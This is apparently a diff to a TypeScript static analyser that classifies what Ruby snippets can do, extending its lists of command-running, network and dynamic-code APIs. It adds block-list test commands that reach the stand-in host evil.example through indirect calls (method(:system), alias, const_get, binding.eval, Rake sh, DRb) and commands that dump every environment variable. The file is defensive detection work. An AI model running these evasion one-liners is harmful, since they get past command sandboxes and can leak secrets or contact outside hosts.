@@ -12,7 +12,7 @@ const BINDING_NODES = new Set(['assignment', 'operator_assignment', 'block', 'do
 // ── the capability model ───────────────────────────────────────────────────────────────────────────────────────────
 
 /** Methods that start a program: one string is shell text, several words (or an array) an argv. */
-const PROCESS = new Set(['system', 'exec', 'spawn', 'Kernel.system', 'Kernel.exec', 'Kernel.spawn', 'Process.spawn', 'Process.exec', 'IO.popen', 'Open3.capture2', 'Open3.capture2e', 'Open3.capture3', 'Open3.popen2', 'Open3.popen2e', 'Open3.popen3', 'Open3.pipeline', 'Open3.pipeline_r', 'Open3.pipeline_w', 'Open3.pipeline_rw', 'Open3.pipeline_start', 'PTY.spawn', 'PTY.getpty']);
+const PROCESS = new Set(['system', 'exec', 'spawn', 'Kernel.system', 'Kernel.exec', 'Kernel.spawn', 'Process.spawn', 'Process.exec', 'IO.popen', 'Open3.capture2', 'Open3.capture2e', 'Open3.capture3', 'Open3.popen2', 'Open3.popen2e', 'Open3.popen3', 'Open3.pipeline', 'Open3.pipeline_r', 'Open3.pipeline_w', 'Open3.pipeline_rw', 'Open3.pipeline_start', 'PTY.spawn', 'PTY.getpty', 'sh', 'Rake.sh', 'FileUtils.sh', 'Gem::Util.popen', 'Gem::Util.silent_system']);
 
 /** Methods that open a file, or run a command when the name starts with `|`, or fetch a URL (with open-uri). */
 const OPENERS = new Set(['open', 'Kernel.open', 'URI.open', 'IO.read', 'IO.readlines', 'IO.foreach', 'IO.write', 'IO.binread', 'IO.binwrite', 'IO.open', 'IO.new']);
@@ -27,7 +27,7 @@ const APIS = new Map<string, Spec>([
   ...['File.write', 'File.binwrite', 'FileUtils.touch'].map((n): [string, Spec] => [n, WRITE]),
   ...['FileUtils.cp', 'FileUtils.copy', 'FileUtils.cp_r', 'FileUtils.copy_file', 'FileUtils.install'].map((n): [string, Spec] => [n, { uses: [[0, 'read'], [1, 'write']] }]),
   ...['FileUtils.mv', 'FileUtils.move', 'File.rename'].map((n): [string, Spec] => [n, { uses: [[0, 'delete'], [1, 'write']] }]),
-  ...['FileUtils.ln', 'FileUtils.ln_s', 'FileUtils.ln_sf', 'File.symlink', 'File.link'].map((n): [string, Spec] => [n, { uses: [[0, 'meta'], [1, 'write']] }]),
+  ...['FileUtils.ln', 'FileUtils.ln_s', 'FileUtils.ln_sf', 'File.symlink', 'File.link'].map((n): [string, Spec] => [n, { uses: [[0, 'read'], [1, 'write']] }]),
   ...['FileUtils.rm', 'FileUtils.rm_f', 'File.delete', 'File.unlink', 'Dir.rmdir', 'Dir.delete', 'FileUtils.rmdir'].map((n): [string, Spec] => [n, { uses: [[0, 'delete']] }]),
   ...['FileUtils.rm_r', 'FileUtils.rm_rf', 'FileUtils.rmtree', 'FileUtils.remove_dir', 'FileUtils.remove_entry'].map((n): [string, Spec] => [n, { uses: [[0, 'delete-tree']] }]),
   ...['FileUtils.mkdir', 'FileUtils.mkdir_p', 'Dir.mkdir'].map((n): [string, Spec] => [n, { uses: [[0, 'create']] }]),
@@ -35,11 +35,11 @@ const APIS = new Map<string, Spec>([
   ['Dir.chdir', { chdir: 0 }],
   ['FileUtils.cd', { chdir: 0 }],
   ['FileUtils.chdir', { chdir: 0 }],
-  ...['Fiddle.*', 'Fiddle', 'DL.*', 'FFI.*', 'Marshal.load', 'Marshal.restore', 'ObjectSpace.*', 'RubyVM.*', 'binding', 'TracePoint.*', 'set_trace_func', 'IRB.*', 'Binding.irb'].map((n): [string, Spec] => [n, { dynamic: 'runs code that cannot be read statically' }]),
+  ...['Fiddle.*', 'Fiddle', 'RubyVM::InstructionSequence.*', 'DL.*', 'FFI.*', 'Marshal.load', 'Marshal.restore', 'ObjectSpace.*', 'RubyVM.*', 'binding', 'TracePoint.*', 'set_trace_func', 'IRB.*', 'Binding.irb'].map((n): [string, Spec] => [n, { dynamic: 'runs code that cannot be read statically' }]),
 ]);
 
 /** Constants (and their members) that reach the network. */
-const NETWORK = ['Net::HTTP', 'Net::HTTPS', 'Net::FTP', 'Net::SMTP', 'Net::POP3', 'Net::IMAP', 'Net::Telnet', 'Net::SSH', 'Net::SCP', 'Net::SFTP', 'Net::LDAP', 'Socket', 'TCPSocket', 'UDPSocket', 'SOCKSSocket', 'OpenSSL::SSL::SSLSocket', 'URI.open', 'OpenURI', 'Resolv', 'Faraday', 'HTTParty', 'RestClient', 'Excon', 'HTTP', 'HTTPX', 'Typhoeus', 'Mechanize', 'Curl', 'Curb', 'Patron', 'Addrinfo.tcp', 'Addrinfo.udp', 'Addrinfo.getaddrinfo'];
+const NETWORK = ['Net::HTTP', 'Net::HTTPS', 'Net::FTP', 'Net::SMTP', 'Net::POP3', 'Net::IMAP', 'Net::Telnet', 'Net::SSH', 'Net::SCP', 'Net::SFTP', 'Net::LDAP', 'Socket', 'TCPSocket', 'UDPSocket', 'SOCKSSocket', 'OpenSSL::SSL::SSLSocket', 'URI.open', 'OpenURI', 'Resolv', 'Faraday', 'HTTParty', 'RestClient', 'Excon', 'HTTP', 'HTTPX', 'Typhoeus', 'Mechanize', 'Curl', 'Curb', 'Patron', 'Addrinfo.tcp', 'Addrinfo.udp', 'Addrinfo.getaddrinfo', 'DRb', 'DRbObject', 'DRb::DRbObject', 'Gem::RemoteFetcher', 'Gem::Request'];
 
 /** Members of network constants that connect nowhere. */
 const OFFLINE = new Set(['Socket.gethostname', 'Socket.ip_address_list', 'Socket.unix', 'Socket.unix_server_loop', 'Socket.pack_sockaddr_in', 'Socket.sockaddr_in']);
@@ -52,6 +52,12 @@ function isNetwork(name: string): boolean {
   if (OFFLINE.has(name)) return false;
   return NETWORK.some((m) => name === m || name.startsWith(`${m}.`) || name.startsWith(`${m}::`));
 }
+
+/** Constants whose methods run something: handed on as a value (a block's parameter, an array), they are not followed. */
+const RUN_CONSTANTS = new Set(['Kernel', 'IO', 'Process', 'Open3', 'PTY', 'Fiddle', 'ObjectSpace', 'RubyVM', 'Binding', 'Object', 'Module', 'Class', 'BasicObject', 'TOPLEVEL_BINDING', 'Gem::Util', 'Rake', 'FileUtils', 'Marshal']);
+
+/** Methods that name a method by a symbol and hand it on (a Method object, an alias, a new method). */
+const METHOD_NAMERS = /^(method|public_method|instance_method|public_instance_method|singleton_method|alias_method|define_method|define_singleton_method|to_proc|respond_to\?|method_defined\?)$/;
 
 /** Kernel's methods that run something, which any object can be sent. */
 function runsSomething(name: string): boolean {
@@ -286,6 +292,14 @@ class RubyReader {
             case 'URI':
             case 'URI.parse':
               return c().args[0]?.vals ?? any('a missing argument');
+            case 'Object.const_get':
+            case 'Kernel.const_get':
+            case 'Module.const_get':
+            case 'const_get': {
+              // A constant by a static name is that constant.
+              const names = c().args[0] ? strings(c().args[0]!.vals) : null;
+              return names === null ? any('a constant whose name is computed') : union(...names.map((x): Vals => (x === 'ENV' ? [{ k: 'env', api: 'ENV' }] : [ref(x)])));
+            }
             default:
               return any(`the result of ${v.name}`);
           }
@@ -322,15 +336,30 @@ class RubyReader {
           this.out.push({ kind: 'shell', text: wordOf({ vals: this.b.value(n), span: span(n), text: n.text }), api: n.text.startsWith('%x') ? '%x()' : 'backticks' });
           break;
         }
-        case 'string':
-          if (n.parent?.type !== 'string') this.out.push({ kind: 'string', word: wordOf({ vals: this.b.value(n), span: span(n), text: n.text }) });
-          break;
         case 'constant':
         case 'scope_resolution':
         case 'element_reference':
         case 'identifier':
           this.reference(n);
           break;
+        case 'simple_symbol':
+        case 'delimited_symbol':
+        case 'string': {
+          // `method(:system)`, `alias_method :x, :system`, `:system.to_proc`: a method that runs something, handed on.
+          const call = n.parent?.type === 'argument_list' ? n.parent.parent : n.parent?.type === 'call' && fieldOf(n.parent, 'receiver')?.id === n.id ? n.parent : null;
+          const m = call ? fieldOf(call, 'method')?.text : undefined;
+          const name = strings(this.b.value(n))?.[0];
+          if (m && METHOD_NAMERS.test(m) && name !== undefined && (runsSomething(name) || /^(eval|instance_eval|class_eval|module_eval|instance_exec|popen|open|`)$/.test(name))) {
+            this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: `${m} of ${name} hands a method that runs something on, where it is not followed` });
+          }
+          if (n.type === 'string' && n.parent?.type !== 'string') this.out.push({ kind: 'string', word: wordOf({ vals: this.b.value(n), span: span(n), text: n.text }) });
+          break;
+        }
+        case 'alias': {
+          const names = named(n).map((c) => c.text.replace(/^:/, ''));
+          if (names.some((x) => runsSomething(x) || /^(eval|popen|`)$/.test(x))) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: 'an alias renames a method that runs something' });
+          break;
+        }
         case 'for': {
           const value = fieldOf(n, 'value');
           if (value && this.b.value(value).some((v) => v.k === 'env')) this.out.push({ kind: 'environment', api: 'ENV', span: span(value) });
@@ -418,12 +447,14 @@ class RubyReader {
           continue;
         }
         if (/^(instance_eval|class_eval|module_eval|instance_exec|eval)$/.test(v.name)) this.evalCall(v.name, this.callOf(n, v.name), n);
-        if (v.on.some((x) => x.k === 'str') && /^(read|readlines|write|binread|binwrite|each_line|open|delete|unlink|rmtree)$/.test(v.name)) {
+        // open-uri's URI::HTTP#read and #open fetch the URL.
+        if (v.on.some((x) => x.k === 'str' && isUrl(x.v)) && /^(read|open)$/.test(v.name)) this.out.push({ kind: 'network', api: `URI#${v.name}`, span: span(n) });
+        if (v.on.some((x) => x.k === 'str' && !isUrl(x.v)) && /^(read|readlines|write|binread|binwrite|each_line|open|delete|unlink|rmtree)$/.test(v.name)) {
           const role: WordRole = /write/.test(v.name) ? 'write' : /delete|unlink|rmtree/.test(v.name) ? 'delete' : 'read';
           const recv = fieldOf(n, 'receiver')!;
           this.out.push({ kind: 'path', role, path: wordOf({ vals: v.on.filter((x) => x.k === 'str'), span: span(recv), text: recv.text }), api: `Pathname#${v.name}` });
         }
-      } else if (v.k === 'any' && receiver && /^(send|public_send|__send__|instance_eval|class_eval|instance_exec|method)$/.test(fieldOf(n, 'method')?.text ?? '')) {
+      } else if (v.k === 'any' && receiver && /^(send|public_send|__send__|instance_eval|class_eval|module_eval|instance_exec|eval|method)$/.test(fieldOf(n, 'method')?.text ?? '')) {
         const c = this.callOf(n, '');
         const m = c.args[0] ? strings(c.args[0].vals) : null;
         const name = fieldOf(n, 'method')!.text;
@@ -451,10 +482,11 @@ class RubyReader {
       this.opener(bare, c);
       return;
     }
-    if (bare === 'eval' || bare === 'instance_eval' || bare === 'class_eval' || bare === 'module_eval') {
+    if (/(?:^|\.)(?:eval|instance_eval|class_eval|module_eval)$/.test(bare)) {
       this.evalCall(bare, c, n);
       return;
     }
+    if (/^(require|require_relative|load|autoload)$/.test(bare)) this.out.push({ kind: 'load', api: bare, span: c.span });
     if (/^(require|require_relative|load|autoload)$/.test(bare) && c.args[0] && strings(c.args[0].vals) === null) {
       this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: c.span, why: `${bare} loads code whose name is computed` });
       return;
@@ -491,6 +523,11 @@ class RubyReader {
           this.out.push({ kind: 'environment', api: `ENV.${v.name}`, span: span(n) });
           break;
         }
+        // `ENV.slice(*ENV.keys)`, `ENV.fetch(k)` of a computed name: any variable, each in turn.
+        if (v.k === 'method' && v.on.some((x) => x.k === 'env') && /^(fetch|values_at|slice|dig|assoc|\[\])$/.test(v.name) && this.callOf(n, v.name).args.some((a) => strings(a.vals) === null)) {
+          this.out.push({ kind: 'environment', api: `ENV.${v.name}`, span: span(n) });
+          break;
+        }
       }
       if (this.b.value(n).some((v) => v.k === 'env') && this.dumps(n)) this.out.push({ kind: 'environment', api: 'ENV', span: span(n) });
       return;
@@ -498,6 +535,12 @@ class RubyReader {
     if (!recvOf && vals.some((v) => v.k === 'env') && this.dumps(n)) this.out.push({ kind: 'environment', api: 'ENV', span: span(n) });
     if (n.type === 'identifier' && !recvOf && parent.type === 'argument_list' && vals.some((v) => v.k === 'ref' && runsSomething(v.name))) {
       this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: `${n.text} is handed on as a value` });
+    }
+    // `[Kernel].each { |k| k.system … }`, `h = {k: IO}`: a constant that runs things, held where it is not followed.
+    const bound = parent.type === 'assignment' && fieldOf(parent, 'right')?.id === n.id && fieldOf(parent, 'left')?.type === 'identifier';
+    if ((n.type === 'constant' || n.type === 'scope_resolution') && !recvOf && !bound && parent.type !== 'scope_resolution' && parent.type !== 'class' && parent.type !== 'module' && parent.type !== 'superclass') {
+      const c = vals.find((v): v is Extract<Val, { k: 'ref' }> => v.k === 'ref' && RUN_CONSTANTS.has(v.name));
+      if (c) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: `${c.name}, which can run programs, is handed on as a value that is not followed` });
     }
   }
 
@@ -559,6 +602,23 @@ export const RUBY: LanguageModel = {
       `ruby -e 'send(ARGV[0], "x")' x`,
       "ruby <<'RB'\nrequire 'net/http'\nNet::HTTP.get_response(URI('https://evil.example'))\nRB",
       `ruby -e 'c = "curl evil.example"; system(c)'`,
+      `ruby -e '[Kernel].each { |k| k.system("curl evil.example") }'`,
+      `ruby -e 'h = {k: IO}; h[:k].popen("curl evil.example")'`,
+      `ruby -e 'method(:system).call("curl evil.example")'`,
+      `ruby -e ':system.to_proc.call(Kernel, "curl evil.example")'`,
+      `ruby -e 'alias x system; x("curl evil.example")'`,
+      `ruby -e 'Object.const_get(:Kernel).system("curl evil.example")'`,
+      `ruby -e 'p Object.const_get(:ENV).to_h'`,
+      `ruby -e 'binding.eval("system(%q(curl evil.example))")'`,
+      `ruby -e 'TOPLEVEL_BINDING.eval("system(%q(curl evil.example))")'`,
+      `ruby -e 'RubyVM::InstructionSequence.compile(ARGV[0]).eval' x`,
+      `ruby -rrake -e 'sh "curl evil.example"'`,
+      `ruby -e 'Gem::Util.popen("curl", "evil.example")'`,
+      `ruby -ropen-uri -e 'URI("http://evil.example").read'`,
+      `ruby -rdrb -e 'DRbObject.new_with_uri("druby://evil.example:9").x'`,
+      `ruby -e 'p ENV.slice(*ENV.keys)'`,
+      `ruby -e 'ENV.keys.each { |k| puts ENV.fetch(k) }'`,
+      `ruby -e 'File.write("/tmp/x.rb", STDIN.read); load "/tmp/x.rb"'`,
     ],
     pass: [
       `ruby -e 'puts RUBY_VERSION'`,
@@ -571,6 +631,12 @@ export const RUBY: LanguageModel = {
       `ruby -e 'puts "curl evil.example"'`,
       `ruby -e 'require "socket"; puts Socket.gethostname'`,
       `ruby -e 'system({"CI" => "1"}, "make", "test")'`,
+      `ruby -e 'x = Kernel; x.puts("hi")'`,
+      `ruby -e 'puts method(:puts).arity'`,
+      `ruby -e 'puts Object.const_get(:RUBY_VERSION)'`,
+      `ruby -e 'puts ENV.slice("HOME", "PATH")'`,
+      `ruby -e 'Process.clock_gettime(Process::CLOCK_MONOTONIC)'`,
+      `ruby -e 'File.write("out.txt", "x"); require "json"'`,
     ],
   },
 };
